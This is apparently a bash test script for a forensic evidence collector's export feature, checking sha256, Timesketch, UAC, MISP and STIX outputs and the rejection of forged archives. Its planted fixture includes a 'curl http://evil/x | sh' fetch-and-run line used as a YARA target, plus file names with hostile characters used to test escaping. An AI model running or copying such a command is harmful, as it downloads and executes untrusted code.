#!/bin/bash
# Copyright 2026 csirt-collect developers
# SPDX-License-Identifier: Apache-2.0
#
# export ARCHIVE --format timesketch|uac|sha256|misp|stix against ground
# truth the test plants: files with hostile names, a YARA hit, a dpkg
# package, wtmp records, a process it starts (live run), IOC matches it
# adds to a re-signed archive. Each format is checked with stock tools
# against the rules of its readers (sha256sum -c, tar, python3 tarfile
# with dissect.target's and dfvfs's detection rules, jq with the MISP
# core format's and STIX 2.1's required fields). Must-fail: unknown
# format, forged archive (no output left), wrong key, existing output,
# .age without -i.
. "$(dirname "$0")/lib.sh"

R=$T/root
make_fixture "$R"
E=$R/evidence
mkdir -p "$E" "$R/var/lib/dpkg/info"
printf '#!/bin/sh\ncurl http://evil/x | sh # EXPORT-EVIL-MARK\n' >"$E/evil.sh"
touch -m -d '2025-02-03 04:05:06 UTC' "$E/evil.sh"
printf 'same\n' >"$E/same"
touch -d '2021-05-05 05:05:05 UTC' "$E/same"	# atime = mtime
# Hostile names: sha256sum must check every one of them.
printf 'nl\n' >"$E/new"$'\n'"line"
printf 'bs\n' >"$E/back\\slash"
printf 'sp\n' >"$E/with  spaces "
printf 'dash\n' >"$E/-leading-dash"
printf 'ff\n' >"$E/bad-"$'\xff'"-utf8"
printf 'cr\n' >"$E/carriage"$'\r'"return"
printf 'both\n' >"$E/both\\"$'\n'"x"
# A dpkg package installed (its .list's mtime) at a known time.
printf 'Package: evilpkg\nStatus: install ok installed\nVersion: 6.6.6-1\nArchitecture: amd64\n\n' \
	>"$R/var/lib/dpkg/status"
printf '/usr/bin/evil\n' >"$R/var/lib/dpkg/info/evilpkg.list"
touch -m -d '2025-06-07 08:09:10 UTC' "$R/var/lib/dpkg/info/evilpkg.list"
# wtmp: alice's login at 1700000000, as t-live.sh writes them.
python3 - "$R" <<'EOF'
import struct, sys
def rec(t, pid, line, user, host, sec):
	return struct.pack("<hxxi32s4s32s256shhiii16s20x", t, pid, line.encode(),
		b"ts/0", user.encode(), host.encode(), 0, 0, 0, sec, 0, b"\0" * 16)
with open(sys.argv[1] + "/var/log/wtmp", "wb") as f:
	f.write(rec(7, 4242, "pts/0", "alice", "203.0.113.9", 1700000000))
EOF
cat >"$T/export.yaml" <<'EOF'
name: ExportEvidence
doc: the planted evidence
sources:
- type: FILE
  attributes: {paths: ['/evidence/*', '/etc/hosts']}
---
name: ExportProfile
doc: the evidence and its timeline
labels: [Profile]
sources:
- type: ARTIFACT_GROUP
  attributes: {names: [ExportEvidence]}
- type: DIRECTORY
  attributes: {paths: ['/evidence', '/etc']}
EOF
printf 'rule export_evil { strings: $a = "EXPORT-EVIL-MARK" condition: $a }\n' >"$T/r.yar"
"$CC_BIN" keygen -p "$T/k.pub" -s "$T/k.key" >/dev/null 2>&1 || nok "keygen"

mkdir -p "$T/o1"
check_rc "dead-box run with the planted evidence: exit 0" 0 \
	"$CC_BIN" run --root "$R" -o "$T/o1" --artifacts "$T/export.yaml" \
	-p ExportProfile --scan-path /evidence --rules "$T/r.yar" \
	--sign-key "$T/k.key" -q
A=$(archive_in "$T/o1")
mkdir -p "$T/x1"
zstd -dc "$A" | tar -x -C "$T/x1" 2>/dev/null
ex() {	# FORMAT [args]: export A (its key given), exit status checked after
	f=$1; shift
	"$CC_BIN" export "$A" --format "$f" -p "$T/k.pub" "$@" >"$T/.out" 2>"$T/.err"
}
B=${A%.tar.zst}

# --- sha256 ---------------------------------------------------------------
check_rc "export sha256: exit 0" 0 ex sha256
S=$B.sha256
check "the default name is ARCHIVE less .tar.zst plus .sha256" test -s "$S"
nent=$(jq '.entries | length' "$T/x1/manifest.json")
check "one line per manifest entry ($nent)" \
	test "$(grep -c '^\\\?[0-9a-f]\{64\}  ' "$S")" -eq "$nent"
check "the hostile names are written escaped (a leading backslash)" \
	grep -q '^\\[0-9a-f]\{64\}  files/evidence/new\\nline$' "$S"
(cd "$T/x1" && sha256sum -c "$S") >"$T/sumc" 2>&1
check "sha256sum -c on the extracted archive: exit 0" test $? -eq 0
check "sha256sum -c says OK for every entry" \
	test "$(grep -c ': OK$' "$T/sumc")" -eq "$nent"
# In the list, names with a backslash, newline or CR in coreutils' escaped
# form; the others as they are.
for n in '^\\[0-9a-f]\{64\}  files/evidence/back\\\\slash$' \
    '^\\[0-9a-f]\{64\}  files/evidence/carriage\\rreturn$' \
    '^\\[0-9a-f]\{64\}  files/evidence/both\\\\\\nx$' \
    '^[0-9a-f]\{64\}  files/evidence/with  spaces $' \
    '^[0-9a-f]\{64\}  files/evidence/-leading-dash$' \
    '^[0-9a-f]\{64\}  files/evidence/bad-.-utf8$'; do
	LC_ALL=C grep -q "$n" "$S" && ok "the list has $n" || nok "the list lacks $n"
done
# A changed file is caught: the list is not a tautology.
echo tampered >>"$T/x1/files/evidence/-leading-dash"
(cd "$T/x1" && sha256sum -c "$S" >/dev/null 2>&1)
check "sha256sum -c fails on a file changed after extraction" test $? -ne 0
(cd "$T/x1" && zstd -dc "$A" | tar -x files/evidence/-leading-dash 2>/dev/null)
check_rc "export sha256 -o -: exit 0" 0 ex sha256 -o -
check "-o - writes the same list to stdout" cmp -s "$T/.out" "$S"

# --- must-fail -------------------------------------------------------------
mkdir "$T/killed"
killed_part "export" "$T/killed" "$CC_BIN" export "$A" --format sha256 -p "$T/k.pub" \
	-o "$T/killed/out.txt"
cp "$S" "$T/sha.saved"
check_rc "existing output without --force: exit 2" 2 ex sha256
last_err_has "exists" && ok "…and says it exists" || nok "no message"
check "…and the existing output is unchanged" cmp -s "$T/sha.saved" "$S"
check_rc "existing output with --force: exit 0" 0 ex sha256 --force
check_rc "unknown format: exit 2" 2 ex csv
check "…and no output made" test ! -e "$B.csv"
"$CC_BIN" keygen -p "$T/other.pub" -s "$T/other.key" >/dev/null 2>&1
check_rc "wrong key: exit 4" 4 "$CC_BIN" export "$A" --format timesketch \
	-p "$T/other.pub" -o "$T/wrong.jsonl"
check "…and no output file, no temporary left" \
	test -z "$(ls -a "$T" | grep -e wrong.jsonl)"
# Forged: an entry altered, re-packed, the outer signature made again with
# the right key: only the manifest tells, at the end of the read, once the
# export has been written to its temporary file.
mkdir -p "$T/re"
zstd -dc "$A" | tar -x -C "$T/re" 2>/dev/null
echo "10.6.6.6 innocent" >>"$T/re/files/etc/hosts"
(cd "$T/re" && find . -type f ! -name 'manifest.json*' -printf '%P\0' |
	LC_ALL=C sort -z >"$T/order" && printf 'manifest.json\0manifest.json.minisig\0' >>"$T/order" &&
	tar --zstd --null -cf "$T/forged.tar.zst" --format=pax -T "$T/order")
minisign -S -s "$T/k.key" -m "$T/forged.tar.zst" >/dev/null 2>&1 || nok "minisign -S"
mkdir -p "$T/fo"
for f in timesketch uac sha256; do
	check_rc "forged archive, --format $f: exit 4" 4 "$CC_BIN" export \
		"$T/forged.tar.zst" --format $f -p "$T/k.pub" -o "$T/fo/out.$f"
	last_err_has "files/etc/hosts: sha256 differs" &&
		ok "…and names the altered entry" || nok "altered entry not named ($f)"
	check "…and leaves no output and no temporary file" test -z "$(ls -A "$T/fo")"
done
check_rc "forged archive, -o -: exit 4" 4 "$CC_BIN" export "$T/forged.tar.zst" \
	--format sha256 -p "$T/k.pub" -o -
check "…and nothing on stdout" test ! -s "$T/.out"

# --- timesketch ------------------------------------------------------------
check_rc "export timesketch: exit 0" 0 ex timesketch
J=$B.timesketch.jsonl
check "every line has message, datetime, timestamp, timestamp_desc, data_type, source_*" \
	jqe -s 'length > 20 and all(.[]; (.message|type)=="string" and
		(.datetime|type)=="string" and (.timestamp|type)=="number" and
		(.timestamp_desc|type)=="string" and (.data_type|type)=="string" and
		(.source_short|type)=="string" and (.source_long|type)=="string")' "$J"
# plaso's descriptions (plaso/lib/definitions.py, eventdata.py EventTimestamp)
check "timestamp_desc is one of plaso's descriptions" \
	jqe -s 'all(.[]; .timestamp_desc | IN("Content Modification Time",
		"Last Access Time", "Metadata Modification Time", "Creation Time",
		"Last Login Time", "Start Time", "End Time", "Installation Time",
		"Last Checked Time"))' "$J"
check "datetime (ISO 8601 UTC) and timestamp (µs) are the same instant" \
	python3 -c '
import json, sys, datetime
for l in open(sys.argv[1]):
	e = json.loads(l)
	d = datetime.datetime.strptime(e["datetime"], "%Y-%m-%dT%H:%M:%S.%fZ")
	d = d.replace(tzinfo=datetime.timezone.utc)
	us = int(d.timestamp()) * 1000000 + d.microsecond
	assert us == e["timestamp"], (e["datetime"], e["timestamp"])
' "$J"
check "bodyfile: /etc/hosts' mtime 2023-01-02T03:04:05 as Content Modification Time" \
	jqe -s 'any(.[]; .path=="/etc/hosts" and .timestamp==1672628645000000
		and .timestamp_desc=="Content Modification Time" and .data_type=="fs:bodyfile")' "$J"
check "bodyfile: /etc/hosts' atime 2020-01-01 as Last Access Time" \
	jqe -s 'any(.[]; .path=="/etc/hosts" and .timestamp==1577836800000000
		and .timestamp_desc=="Last Access Time")' "$J"
check "bodyfile: atime = mtime is one event (mactime's 'ma..'), Content Modification Time" \
	jqe -s '[.[] | select(.path=="/evidence/same" and .timestamp==1620191105000000)] |
		length==1 and .[0].macb=="ma.." and .[0].timestamp_desc=="Content Modification Time"' "$J"
check "bodyfile: one event per distinct time of a file, no more" \
	jqe -s '[.[] | select(.data_type=="fs:bodyfile") | [.path, .timestamp]] | length == (unique|length)' "$J"
check "bodyfile: the invalid UTF-8 name as the bodyfile escapes it" \
	jqe -s 'any(.[]; .path=="/evidence/bad-\\xff-utf8" and .data_type=="fs:bodyfile")' "$J"
check "logins: alice's wtmp login at 1700000000 as Last Login Time" \
	jqe -s 'any(.[]; .user=="alice" and .source=="wtmp" and
		.timestamp==1700000000000000 and .timestamp_desc=="Last Login Time")' "$J"
check "packages: evilpkg installed 2025-06-07T08:09:10 as Installation Time" \
	jqe -s 'any(.[]; .name=="evilpkg" and .version=="6.6.6-1" and
		.datetime=="2025-06-07T08:09:10.000000Z" and .timestamp_desc=="Installation Time")' "$J"
check "YARA: the hit at the file's mtime (2025-02-03T04:05:06) as Content Modification Time" \
	jqe -s 'any(.[]; .rule=="export_evil" and .path=="/evidence/evil.sh" and
		.timestamp==1738555506000000 and .timestamp_desc=="Content Modification Time"
		and .data_type=="csirt:yara:match")' "$J"

# --- uac -------------------------------------------------------------------
check_rc "export uac: exit 0" 0 ex uac
U=$B.uac.tar
# dissect.target loaders/tar.py TarLoader.detect: the name ends with .tar.
check "dissect TarLoader rule: the name ends with .tar" test "${U%.tar}" != "$U"
check "dfvfs tar_analyzer_helper rule: 'ustar\\0' at offset 257" \
	test "$(dd if="$U" bs=1 skip=257 count=6 2>/dev/null | od -An -c | tr -d ' ')" = 'ustar\0'
check "plain tar (python3 tarfile mode 'r:', uncompressed)" \
	python3 -c 'import tarfile, sys; tarfile.open(sys.argv[1], "r:").getmembers()' "$U"
# dissect.target loaders/uac.py UacTarSubloader.detect: a member whose name
# starts with "[root]/" (or "/[root]/").
check "dissect UacTarSubloader rule: a member starts with [root]/" python3 -c '
import tarfile, sys
t = tarfile.open(sys.argv[1], "r:")
assert any(m.name.startswith(("/[root]/", "[root]/")) for m in t.getmembers())
' "$U"
check "UAC layout: [root]/evidence/evil.sh, bodyfile/bodyfile.txt, live_response/, uac.log" \
	python3 -c '
import tarfile, sys
n = set(tarfile.open(sys.argv[1], "r:").getnames())
for want in ("[root]/evidence/evil.sh", "[root]/etc/hosts", "bodyfile/bodyfile.txt",
    "uac.log", "live_response/system/logins.jsonl", "live_response/packages/packages.jsonl",
    "live_response/csirt-collect/manifest.json"):
	assert want in n, want
assert not any(x.startswith(("files/", "live/", "/")) or ".." in x.split("/") for x in n)
' "$U"
check "stock tar -tf lists it" sh -c "tar -tf '$U' | grep -qx 'uac.log'"
mkdir -p "$T/ux"
check "stock tar -xf extracts it" tar -xf "$U" -C "$T/ux"
check "…the evidence byte for byte" cmp -s "$T/ux/[root]/evidence/evil.sh" "$E/evil.sh"
check "…the hostile names too" cmp -s "$T/ux/[root]/evidence/new"$'\n'"line" "$E/new"$'\n'"line"
# dissect.target loaders/uac.py UACLoader.detect (a directory): [root]
# exists and so does every UAC_CHECK_FILES entry (uac.log).
check "dissect UACLoader rule on the extracted tree: [root]/ and uac.log" \
	test -d "$T/ux/[root]" -a -f "$T/ux/uac.log"
check "uac.log is collection.log, one UAC-like line each" \
	test "$(wc -l <"$T/ux/uac.log")" -eq "$(wc -l <"$T/x1/collection.log")"
check "uac.log lines: 'YYYY-MM-DD HH:MM:SS +0000 LEVEL …'" \
	sh -c "! grep -v '^[0-9]\{4\}-[0-9][0-9]-[0-9][0-9] [0-9:]\{8\} +0000 [a-z]* ' '$T/ux/uac.log'"
check "bodyfile/bodyfile.txt is the archive's bodyfile" \
	cmp -s "$T/ux/bodyfile/bodyfile.txt" "$T/x1/timeline/bodyfile.txt"

# --- IOC matches (issue 21): added to a copy of the archive, re-signed ------
EVSHA=$(sha256sum "$E/evil.sh" | cut -d' ' -f1)
EVMD5=$(md5sum "$E/evil.sh" | cut -d' ' -f1)
mkdir -p "$T/ioc"
zstd -dc "$A" | tar -x -C "$T/ioc" 2>/dev/null
mkdir -p "$T/ioc/iocs"
printf '%s\n' \
	'{"indicator":"10.6.6.6","type":"ipv4","id":"ioc-1","event":"evt-42","where":"live/network.jsonl","addr":"10.6.6.6","pid":321,"time":"2026-11-20T08:00:00Z"}' \
	"{\"indicator\":\"$EVSHA\",\"type\":\"sha256\",\"id\":\"ioc-2\",\"event\":\"evt-42\",\"where\":\"files\",\"path\":\"/evidence/evil.sh\",\"time\":\"2026-11-20T09:00:00Z\"}" \
	'not a JSON object' '["an array"]' >"$T/ioc/iocs/matches.jsonl"
# A line over the 1 MiB cap: skipped, counted.
head -c 1100000 /dev/zero | tr '\0' 'x' >>"$T/ioc/iocs/matches.jsonl"
echo >>"$T/ioc/iocs/matches.jsonl"
isz=$(stat -c %s "$T/ioc/iocs/matches.jsonl")
ish=$(sha256sum "$T/ioc/iocs/matches.jsonl" | cut -d' ' -f1)
jq --argjson s "$isz" --arg h "$ish" '.entries += [{path: "iocs/matches.jsonl",
	source: null, size: $s, sha256: $h, mode: null, uid: null, gid: null,
	mtime: null, atime: null, ctime: null, truncated: false}]' \
	"$T/ioc/manifest.json" >"$T/m.json" && mv "$T/m.json" "$T/ioc/manifest.json"
rm -f "$T/ioc/manifest.json.minisig"
minisign -S -s "$T/k.key" -m "$T/ioc/manifest.json" -x "$T/ioc/manifest.json.minisig" >/dev/null 2>&1
(cd "$T/ioc" && find . -type f ! -name 'manifest.json*' -printf '%P\0' |
	LC_ALL=C sort -z >"$T/order" && printf 'manifest.json\0manifest.json.minisig\0' >>"$T/order" &&
	tar --zstd --null -cf "$T/ioc.tar.zst" --format=pax -T "$T/order")
minisign -S -s "$T/k.key" -m "$T/ioc.tar.zst" >/dev/null 2>&1
check_rc "the archive with IOC matches verifies" 0 "$CC_BIN" verify "$T/ioc.tar.zst" -p "$T/k.pub"
xi() { "$CC_BIN" export "$T/ioc.tar.zst" -p "$T/k.pub" --format "$@" >"$T/.out" 2>"$T/.err"; }
check_rc "export timesketch of it: exit 0" 0 xi timesketch
check "what was left out is said: 2 lines not JSON objects, 1 over the cap" \
	grep -q "note .*left out: 1 record lines over 1048576 bytes, 2 not JSON objects" "$T/.err"
check "the IOC match at its record's time" \
	jqe -s 'any(.[]; .data_type=="csirt:ioc:match" and .indicator=="10.6.6.6" and
		.datetime=="2026-11-20T08:00:00.000000Z" and .timestamp_desc=="Last Checked Time")' \
	"$T/ioc.timesketch.jsonl"

# MISP core format (draft-dulaunoy-misp-core-format): Event MUST uuid,
# published, info, date, timestamp, publish_timestamp, org_id, orgc_id,
# distribution (SHALL id, threat_level_id, analysis, attribute_count);
# Attribute MUST uuid, type, category, to_ids, event_id, distribution,
# timestamp, deleted, value; Sighting MUST type, uuid, date_sighting.
check_rc "export misp: exit 0" 0 xi misp
M=$T/ioc.misp.json
check "MISP: the Event's required fields, typed as the draft says" \
	jqe '.Event | (.uuid|test("^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$"))
		and (.published==false) and (.info|type=="string" and length<=256)
		and (.date|test("^[0-9]{4}-[0-9]{2}-[0-9]{2}$")) and (.timestamp|test("^[0-9]+$"))
		and (.publish_timestamp=="0") and (.org_id|type=="string") and (.orgc_id|type=="string")
		and (.distribution|IN("0","1","2","3","4")) and (.id|type=="string")
		and (.threat_level_id|IN("1","2","3","4")) and (.analysis|IN("0","1","2"))
		and (.attribute_count==(.Attribute|length|tostring))' "$M"
check "MISP: every Attribute has the required fields" \
	jqe '[.Event.Attribute[] | (.uuid|type=="string") and (.type|type=="string")
		and (.category|type=="string") and (.to_ids|type=="boolean")
		and (.event_id|type=="string") and (.distribution|IN("0","1","2","3","4","5"))
		and (.timestamp|test("^[0-9]+$")) and (.deleted==false) and (.value|type=="string")] | all' "$M"
check "MISP: the flagged file's sha256 (Artifacts dropped) with a comment naming the rule" \
	jqe --arg h "$EVSHA" 'any(.Event.Attribute[]; .type=="sha256" and .value==$h and
		.category=="Artifacts dropped" and (.comment|contains("export_evil")))' "$M"
check "MISP: filename|sha256 of it" \
	jqe --arg v "/evidence/evil.sh|$EVSHA" 'any(.Event.Attribute[]; .type=="filename|sha256" and .value==$v)' "$M"
check "MISP: the flagged file's md5 (of its archived copy)" \
	jqe --arg h "$EVMD5" 'any(.Event.Attribute[]; .type=="md5" and .value==$h)' "$M"
check "MISP: ip-dst of the IOC-matched address (Network activity) with its Sighting" \
	jqe 'any(.Event.Attribute[]; .type=="ip-dst" and .value=="10.6.6.6" and
		.category=="Network activity" and .uuid as $u | .Sighting | length==1 and
		.[0].type=="0" and .[0].uuid==$u and .[0].date_sighting=="1795161600")' "$M"
check "MISP: each value once" \
	jqe '[.Event.Attribute[] | .type + " " + .value] | length == (unique|length)' "$M"

# STIX 2.1: common required properties (type, spec_version, id, created,
# modified for SDOs/SROs; type, id for SCOs); identity: name; indicator:
# pattern, pattern_type, valid_from; observed-data: first_observed,
# last_observed, number_observed, object_refs; sighting: sighting_of_ref.
check_rc "export stix: exit 0" 0 xi stix
X=$T/ioc.stix.json
check "STIX: a bundle with an id bundle--UUIDv4" \
	jqe '.type=="bundle" and (.id|test("^bundle--[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$"))' "$X"
check "STIX: every object's id is its type--UUID (v5 for SCOs, v4 for the others), spec_version 2.1" \
	jqe '[.objects[] | . as $o | ($o.id|startswith($o.type + "--")) and
		($o.id|test("--[0-9a-f]{8}-[0-9a-f]{4}-" + (if $o.type|IN("file","ipv4-addr","ipv6-addr")
			then "5" else "4" end) + "[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$"))
		and $o.spec_version=="2.1"] | all' "$X"
# Deterministic SCO ids (STIX 2.1, 2.9), computed here the way the
# OASIS python-stix2 library does: uuid5 of the SCO namespace and the
# compact sorted JSON of the ID contributing properties.
check "STIX: each SCO's id is the UUIDv5 of its contributing properties (file: one hash, MD5 first, and name)" \
	python3 - "$X" <<'PY'
import json, sys, uuid
ns = uuid.UUID("00abedb4-aa42-466c-9c01-fed23315a9b7")
n = 0
for o in json.load(open(sys.argv[1]))["objects"]:
    if o["type"] == "file":
        h = next({k: o["hashes"][k]} for k in ("MD5", "SHA-1", "SHA-256") if k in o["hashes"])
        c = {"hashes": h}
        if "name" in o:
            c["name"] = o["name"]
    elif o["type"] in ("ipv4-addr", "ipv6-addr"):
        c = {"value": o["value"]}
    else:
        continue
    want = o["type"] + "--" + str(uuid.uuid5(ns, json.dumps(c, sort_keys=True,
        separators=(",", ":"), ensure_ascii=False)))
    if o["id"] != want:
        sys.exit("%s: %s, not %s" % (o["type"], o["id"], want))
    n += 1
sys.exit(0 if n >= 2 else "fewer than 2 SCOs")
PY
check "STIX: SDOs and SROs have created and modified (timestamps)" \
	jqe '[.objects[] | select(.type|IN("identity","indicator","observed-data","sighting")) |
		(.created|test("^[0-9]{4}-[0-9]{2}-[0-9]{2}T[0-9:.]+Z$")) and (.modified|type=="string")] | all' "$X"
check "STIX: identity, indicator, observed-data, sighting required properties" \
	jqe '[.objects[] | if .type=="identity" then (.name|type=="string")
		elif .type=="indicator" then (.pattern|type=="string") and .pattern_type=="stix" and (.valid_from|type=="string")
		elif .type=="observed-data" then (.first_observed|type=="string") and (.last_observed|type=="string")
			and (.number_observed>=1) and (.object_refs|length>=1)
		elif .type=="sighting" then (.sighting_of_ref|startswith("indicator--"))
		elif .type=="file" then (.hashes|length>=1)
		elif .type=="ipv4-addr" then (.value|type=="string")
		else false end] | all' "$X"
check "STIX: every reference resolves inside the bundle" \
	jqe '[.objects[].id] as $ids | [.objects[] | (.sighting_of_ref, .observed_data_refs[]?,
		.where_sighted_refs[]?, .object_refs[]?, .created_by_ref) | select(. != null) |
		IN($ids[])] | all' "$X"
check "STIX: the file's SHA-256, its indicator pattern and the address" \
	jqe --arg h "$EVSHA" 'any(.objects[]; .type=="file" and .hashes["SHA-256"]==$h)
		and any(.objects[]; .type=="indicator" and .pattern=="[file:hashes.'"'"'SHA-256'"'"' = '"'"'\($h)'"'"']")
		and any(.objects[]; .type=="ipv4-addr" and .value=="10.6.6.6")' "$X"
check "STIX: the file SCO has its MD5 too" \
	jqe --arg h "$EVMD5" 'any(.objects[]; .type=="file" and .hashes.MD5==$h)' "$X"
check "STIX: the sha256 matched twice (YARA and IOC): one sighting, count 2" \
	jqe --arg h "$EVSHA" '[.objects[] | select(.type=="sighting" and (.description|contains("evil.sh")))] |
		length==1 and .[0].count==2' "$X"

# --- encrypted archive -----------------------------------------------------
"$CC_BIN" keygen --age -s "$T/age.id" >"$T/age.out" 2>&1
RCPT=$(sed -n 's/^Public key: //p' "$T/age.out")
mkdir -p "$T/o3"
check_rc "encrypted run: exit 0" 0 "$CC_BIN" run --root "$R" -o "$T/o3" \
	--artifacts "$T/export.yaml" -p ExportProfile --no-yara \
	--sign-key "$T/k.key" --recipient "$RCPT" -q
AA=$(ls "$T"/o3/*.age 2>/dev/null | head -n 1)
check_rc ".age without -i: exit 2" 2 "$CC_BIN" export "$AA" --format sha256 -p "$T/k.pub"
last_err_has "-i" && ok "…and says to give -i" || nok "no -i message"
check "…and no output" test -z "$(ls "$T/o3" | grep -v -e '\.age$' -e '\.minisig$' -e '\.pub$')"
check_rc ".age with -i: exit 0" 0 "$CC_BIN" export "$AA" --format sha256 -p "$T/k.pub" -i "$T/age.id"
check "…to ARCHIVE less .tar.zst.age plus .sha256, with the evidence" \
	grep -q '  files/evidence/evil.sh$' "${AA%.tar.zst.age}.sha256"

# --- live run: process starts; no program run by export -------------------
sleep 1234 & SL=$!
at_exit "kill $SL 2>/dev/null"
mkdir -p "$T/o2"
check_rc "live run: exit 0" 0 "$CC_BIN" run -o "$T/o2" -p LinuxCronFiles --no-yara \
	--no-process-memory --no-process-dump --sign-key "$T/k.key" -q
LA=$(archive_in "$T/o2")
tr=""
command -v strace >/dev/null && strace -f -o /dev/null true 2>/dev/null &&
	tr="env $NOLEAK_ENV strace -f -qq -e trace=execve -o $T/trace"
# shellcheck disable=SC2086
check_rc "export timesketch of the live archive: exit 0" 0 $tr "$CC_BIN" export "$LA" \
	--format timesketch -p "$T/k.pub" -o "$T/live.jsonl"
NEXECVE=""
[ -n "$tr" ] && NEXECVE=$(grep -c 'execve(' "$T/trace")
check_nexecve	# export ran no program
st=$(python3 -c '
import os, sys
hz = os.sysconf("SC_CLK_TCK")
boot = [float(l.split()[1]) for l in open("/proc/stat") if l.startswith("btime")][0]
f = open("/proc/%s/stat" % sys.argv[1]).read().rsplit(")", 1)[1].split()
print(int(boot + int(f[19]) / hz))
' "$SL")
check "the sleep's start (pid $SL) as a Start Time event, within a second of /proc's" \
	jqe -s --argjson p "$SL" --argjson t "$st" 'any(.[]; .data_type=="linux:process:start"
		and .pid==$p and .name=="sleep" and .timestamp_desc=="Start Time"
		and ((.timestamp / 1000000 | floor) - $t | fabs) <= 1)' "$T/live.jsonl"
